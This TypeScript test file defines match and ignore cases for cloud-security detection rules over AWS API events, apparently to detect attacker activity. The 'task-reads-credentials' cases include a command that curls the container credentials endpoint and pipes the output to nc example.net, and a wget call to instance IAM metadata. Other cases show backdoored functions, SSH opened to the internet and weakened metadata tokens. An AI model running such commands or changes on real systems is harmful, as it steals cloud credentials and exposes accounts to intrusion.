import { ask, record, roleArn, several } from '../records.ts';
import { hourly, many, one, type RuleCases } from './case.ts';

export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
  'function-backdoored': {
    matches: [
      one('new code', ask('lambda:UpdateFunctionCode20150331v2', { functionName: 'f' })),
      one('a permission for everyone', ask('lambda:AddPermission20150331v2', { functionName: 'f', principal: '*' })),
      one(
        'a new layer',
        ask('lambda:UpdateFunctionConfiguration20150331v2', {
          functionName: 'f',
          layers: ['arn:aws:lambda:eu-west-1:999988887777:layer:l:1'],
        }),
      ),
      one(
        'a new layer of the account',
        ask('lambda:UpdateFunctionConfiguration20150331v2', {
          functionName: 'f',
          layers: ['arn:aws:lambda:eu-west-1:111122223333:layer:l:1'],
        }),
      ),
      one('layers that only the response names', {
        ...ask('lambda:UpdateFunctionConfiguration20150331v2', { functionName: 'f' }),
        responseElements: { layers: [{ arn: 'arn:aws:lambda:eu-west-1:111122223333:layer:l:1' }] },
      }),
      one(
        'a permission for a caller that the record does not name',
        ask('lambda:AddPermission20150331v2', { functionName: 'f' }),
      ),
    ],
    ignores: [
      one(
        'a permission for a bucket',
        ask('lambda:AddPermission20150331v2', {
          functionName: 'f',
          principal: 's3.amazonaws.com',
          sourceAccount: '111122223333',
        }),
      ),
      one(
        'a larger memory size',
        ask('lambda:UpdateFunctionConfiguration20150331v2', { functionName: 'f', memorySize: 512 }),
      ),
      one('a larger memory size of a function with layers', {
        ...ask('lambda:UpdateFunctionConfiguration20150331v2', { functionName: 'f', memorySize: 512 }),
        responseElements: { layers: [{ arn: 'arn:aws:lambda:eu-west-1:111122223333:layer:l:1' }] },
      }),
    ],
  },
  'startup-script-changed': {
    matches: [
      one(
        'new user data',
        ask('ec2:ModifyInstanceAttribute', { instanceId: 'i-1', userData: '<sensitiveDataRemoved>' }),
      ),
    ],
    ignores: [
      one(
        'another instance type',
        ask('ec2:ModifyInstanceAttribute', { instanceId: 'i-1', instanceType: { value: 't3.small' } }),
      ),
    ],
  },
  'task-reads-credentials': {
    matches: [
      one(
        'a command of a task definition',
        ask('ecs:RegisterTaskDefinition', {
          family: 'x',
          containerDefinitions: [
            { command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc example.net 9'] },
          ],
        }),
      ),
      one(
        'a command of one task',
        ask('ecs:RunTask', {
          taskDefinition: 'x',
          overrides: { containerOverrides: [{ command: ['wget http://169.254.169.254/latest/meta-data/iam/'] }] },
        }),
      ),
    ],
    ignores: [
      one(
        'an ordinary task definition',
        ask('ecs:RegisterTaskDefinition', {
          family: 'x',
          containerDefinitions: [{ command: ['node', 'server.js'], environment: [{ name: 'PORT', value: '80' }] }],
        }),
      ),
    ],
  },
  'metadata-service-weakened': {
    matches: [
      one(
        'an instance with optional tokens',
        ask('ec2:ModifyInstanceMetadataOptions', {
          ModifyInstanceMetadataOptionsRequest: { InstanceId: 'i-1', HttpTokens: 'optional' },
        }),
      ),
      one(
        'optional tokens for new instances',
        ask('ec2:ModifyInstanceMetadataDefaults', {
          ModifyInstanceMetadataDefaultsRequest: { HttpTokens: 'optional' },
        }),
      ),
    ],
    ignores: [
      one(
        'required tokens',
        ask('ec2:ModifyInstanceMetadataOptions', {
          ModifyInstanceMetadataOptionsRequest: { InstanceId: 'i-1', HttpTokens: 'required' },
        }),
      ),
      one(
        'another hop limit',
        ask('ec2:ModifyInstanceMetadataOptions', {
          ModifyInstanceMetadataOptionsRequest: { InstanceId: 'i-1', HttpPutResponseHopLimit: 2 },
        }),
      ),
    ],
  },
  'remote-command': {
    matches: [
      one('a command', ask('ssm:SendCommand', { documentName: 'AWS-RunShellScript', instanceIds: ['i-1'] })),
      one('a session', ask('ssm:StartSession', { target: 'i-1' })),
      many(
        'a key for one host after the other',
        several(3, (number, at) =>
          ask('ec2-instance-connect:SendSSHPublicKey', { instanceId: `i-${number}`, instanceOSUser: 'x' }, {}, at),
        ),
      ),
      one('a command on many hosts', ask('ssm:SendCommand', { instanceIds: ['i-1', 'i-2', 'i-3'] })),
    ],
    ignores: [one('a habitual command', ask('ssm:SendCommand', { instanceIds: ['i-1'] }), hourly(['ssm:SendCommand']))],
  },
  'network-opened': {
    matches: [
      one(
        'SSH from the internet',
        ask('ec2:AuthorizeSecurityGroupIngress', {
          groupId: 'sg-1',
          ipPermissions: {
            items: [{ ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }],
          },
        }),
      ),
      one(
        'SSH from both halves of the internet',
        ask('ec2:AuthorizeSecurityGroupIngress', {
          groupId: 'sg-1',
          ipPermissions: {
            items: [
              { ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/1' }] } },
              { ipProtocol: 'tcp', fromPort: 20, toPort: 25, ipRanges: { items: [{ cidrIp: '128.0.0.0/1' }] } },
            ],
          },
        }),
      ),
      one(
        'a rule modified to every protocol from the internet',
        ask('ec2:ModifySecurityGroupRules', {
          ModifySecurityGroupRulesRequest: {
            GroupId: 'sg-1',
            SecurityGroupRule: { tag: 1, SecurityGroupRule: { IpProtocol: '-1', CidrIpv6: '::/0' } },
          },
        }),
      ),
    ],
    ignores: [
      one(
        'a protocol without ports from the internet',
        ask('ec2:AuthorizeSecurityGroupIngress', {
          groupId: 'sg-1',
          ipPermissions: {
            items: [{ ipProtocol: 'icmp', fromPort: -1, toPort: -1, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }],
          },
        }),
      ),
      one(
        'SSH from an office',
        ask('ec2:AuthorizeSecurityGroupIngress', {
          groupId: 'sg-1',
          ipPermissions: {
            items: [{ fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '198.51.100.0/24' }] } }],
          },
        }),
      ),
      one(
        'HTTPS from the internet',
        ask('ec2:AuthorizeSecurityGroupIngress', {
          groupId: 'sg-1',
          ipPermissions: { items: [{ fromPort: 443, toPort: 443, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }] },
        }),
      ),
    ],
  },
  'network-path-changed': {
    matches: [
      one(
        'a network ACL entry for any address',
        ask('ec2:CreateNetworkAclEntry', { networkAclId: 'acl-1', cidrBlock: '0.0.0.0/0', ruleAction: 'allow' }),
      ),
    ],
    ignores: [
      one(
        'a network ACL entry for an office',
        ask('ec2:CreateNetworkAclEntry', { networkAclId: 'acl-1', cidrBlock: '198.51.100.0/24' }),
      ),
    ],
  },
  'unusual-compute': {
    matches: [
      one(
        'an accelerator instance',
        ask('ec2:RunInstances', {
          instanceType: 'p4d.24xlarge',
          instancesSet: { items: [{ minCount: 1, maxCount: 1 }] },
        }),
      ),
      one(
        'many instances',
        ask('ec2:RunInstances', { instanceType: 't3.micro', instancesSet: { items: [{ minCount: 1, maxCount: 40 }] } }),
      ),
      one(
        'an accelerator instance in another form',
        ask('ec2:RunInstances', { instanceType: { value: 'p2.xlarge' }, instancesSet: { items: [{ maxCount: 1 }] } }),
      ),
      one(
        'a spot fleet of large instances',
        ask('ec2:CreateFleet', {
          CreateFleetRequest: {
            LaunchTemplateConfigs: { Overrides: [{ InstanceType: 'c5.large' }, { InstanceType: 'c5.metal' }] },
            TargetCapacitySpecification: { TotalTargetCapacity: 2 },
          },
        }),
      ),
      one(
        'a training job on accelerators',
        ask('sagemaker:CreateTrainingJob', { resourceConfig: { instanceType: 'ml.p3.2xlarge', instanceCount: 1 } }),
      ),
      one(
        'a large group',
        ask('autoscaling:CreateAutoScalingGroup', { autoScalingGroupName: 'g', minSize: 1, desiredCapacity: 100 }),
      ),
      one(
        'many spot instances',
        ask('ec2:RequestSpotInstances', { instanceCount: 60, launchSpecification: { instanceType: 't3.micro' } }),
      ),
    ],
    ignores: [
      one(
        'a small spot request',
        ask('ec2:RequestSpotInstances', { instanceCount: 1, launchSpecification: { instanceType: 't3.micro' } }),
      ),
      one(
        'a small instance',
        ask('ec2:RunInstances', { instanceType: 't3.micro', instancesSet: { items: [{ minCount: 1, maxCount: 1 }] } }),
      ),
      one('a habitual launch', ask('ec2:RunInstances', { instanceType: 'p4d.24xlarge' }), hourly(['ec2:RunInstances'])),
    ],
  },
  'role-put-on-compute': {
    matches: [one('a replaced instance profile', record('ec2:ReplaceIamInstanceProfileAssociation'))],
    ignores: [one('a removed instance profile', record('ec2:DisassociateIamInstanceProfile'))],
  },
  'role-passed': {
    matches: [
      one('a function', ask('lambda:CreateFunction20150331', { functionName: 'f', role: roleArn('admin') })),
      one('an instance', ask('ec2:RunInstances', { iamInstanceProfile: { name: 'admin' } })),
      one('a stack', ask('cloudformation:CreateStack', { stackName: 's', roleARN: roleArn('admin') })),
    ],
    ignores: [
      one('an instance without a role', ask('ec2:RunInstances', { instanceType: 't3.micro' })),
      one(
        'a call by CloudFormation',
        ask(
          'lambda:CreateFunction20150331',
          { role: roleArn('x') },
          { sourceIPAddress: 'cloudformation.amazonaws.com' },
        ),
      ),
    ],
  },
  'door-to-compute-made': {
    matches: [
      one('a key pair', ask('ec2:CreateKeyPair', { keyName: 'k' })),
      one(
        'a development endpoint with a public key',
        ask('glue:UpdateDevEndpoint', { endpointName: 'e', publicKey: 'ssh-rsa x' }),
      ),
    ],
    ignores: [
      one('a list of key pairs', record('ec2:DescribeKeyPairs')),
      one('a habitual key pair', ask('ec2:CreateKeyPair', { keyName: 'k' }), hourly(['ec2:CreateKeyPair'])),
    ],
  },
  'model-access-changed': {
    matches: [one('a new entitlement', ask('bedrock:PutFoundationModelEntitlement', { modelId: 'm' }))],
    ignores: [one('a list of models', record('bedrock:ListFoundationModels'))],
  },
  'mail-set-up': {
    matches: [one('enabled sending', record('ses:UpdateAccountSendingEnabled'))],
    ignores: [
      one('a sent email', record('ses:SendEmail')),
      one('a habitual change', record('ses:CreateEmailIdentity'), hourly(['ses:CreateEmailIdentity'])),
    ],
  },
  'quota-raised': {
    matches: [one('a request for compute', ask('servicequotas:RequestServiceQuotaIncrease', { serviceCode: 'ec2' }))],
    ignores: [one('a read', record('servicequotas:ListServiceQuotas'))],
  },
};
